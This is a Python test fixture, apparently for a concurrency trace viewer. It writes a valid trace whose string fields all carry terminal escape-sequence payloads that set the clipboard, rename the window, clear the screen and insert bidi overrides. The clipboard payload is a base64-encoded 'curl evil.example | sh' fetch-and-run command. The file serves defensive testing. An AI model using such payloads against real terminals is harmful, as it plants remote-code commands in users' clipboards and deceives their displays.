"""A trace whose every string tries to drive the terminal: OSC 52 (clipboard), OSC 0 (title), CSI 2J (clear)."""

from __future__ import annotations

import base64
import json
from pathlib import Path

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()  # no "/": the program's name stays one name


def payload(tag: str) -> str:
    """`tag`, then sequences that set the clipboard, rename the window (naming `tag`), clear the screen,
    a one-byte C1 CSI and a bidi override; `tag` again at the end, so a shown string can be told apart."""
    return (f"{tag}\x1b]52;c;{CLIPBOARD}\x07\x1b]0;{tag}-title\x07\x1b[2J{tag}-cleared\x9b31m\u202e{tag}-rtl"
            f"\u2066{tag}")


# The strings of the trace, one tag each (the tags are short and distinct: a leak names its field).
FIELDS = {
    "program": "PRG", "lane": "LNA", "log": "LOG", "error": "ERR", "mark": "MRK", "footer": "FTR", "source": "SRC",
    "reason": "RSN",
}


def write_hostile_trace(path: Path, *, failed: str = "incomplete") -> Path:
    """A small, valid trace of a program whose names and texts carry payload(tag) for each of FIELDS.

    failed="incomplete": the footer says the run was cut short (its reason is the footer's payload);
    failed="raised": it ended by itself with exit code 1 after an error (the error text is what the
    app's error dialog shows).
    """
    p = {field: payload(tag) for field, tag in FIELDS.items()}
    source = f"import time\n# {p['source']}\nprint('{p['source']}')\ntime.sleep(1)\n"
    footer = ({"type": "footer", "complete": False, "exit_code": -9, "reason": p["footer"], "events": 12, "lanes": 2}
              if failed == "incomplete" else
              {"type": "footer", "complete": True, "exit_code": 1, "reason": p["footer"], "events": 12, "lanes": 2})
    program = f"{p['program']}.py"
    lines = [
        {"format": "concurview-trace", "version": 1, "scenario": None, "program": program, "params": {},
         "python": "3.11.7", "platform": "Linux", "start_time": "2026-01-01T00:00:00.000+00:00",
         "source": program, "source_text": source},
        {"type": "lane", "id": 0, "kind": "main", "name": p["lane"], "pid": 1, "tid": 1},
        {"type": "lane", "id": 1, "kind": "thread", "name": "worker", "parent": 0, "pid": 1, "tid": 2},
        {"seq": 0, "t": 0, "lane": 0, "kind": "open"},
        {"seq": 1, "t": 1_000_000, "lane": 0, "kind": "run", "where": f"{program}:2"},
        {"seq": 2, "t": 2_000_000, "lane": 1, "kind": "open", "cause": 0, "where": f"{program}:3"},
        {"seq": 3, "t": 3_000_000, "lane": 0, "kind": "wait", "reason": p["reason"], "where": f"{program}:4"},
        {"seq": 4, "t": 4_000_000, "lane": 1, "kind": "run", "reason": p["reason"], "cause": 0},
        {"seq": 5, "t": 5_000_000, "lane": 1, "kind": "log", "reason": "stdout", "text": p["log"]},
        {"seq": 6, "t": 6_000_000, "lane": 1, "kind": "mark", "text": p["mark"]},
        {"seq": 7, "t": 7_000_000, "lane": 1, "kind": "wait", "reason": "sleep 1.0s", "where": f"{program}:4"},
        {"seq": 8, "t": 8_000_000, "lane": 0, "kind": "run", "cause": 1, "where": f"{program}:4"},
        {"seq": 9, "t": 9_000_000, "lane": 0, "kind": "error", "text": f"Traceback:\n  boom\nValueError: {p['error']}"},
        {"seq": 10, "t": 10_000_000, "lane": 1, "kind": "close"},
        {"seq": 11, "t": 11_000_000, "lane": 0, "kind": "close"},
        footer,
    ]
    path.write_text("".join(json.dumps(line, ensure_ascii=False, separators=(",", ":")) + "\n" for line in lines),
                    encoding="utf-8")
    return path
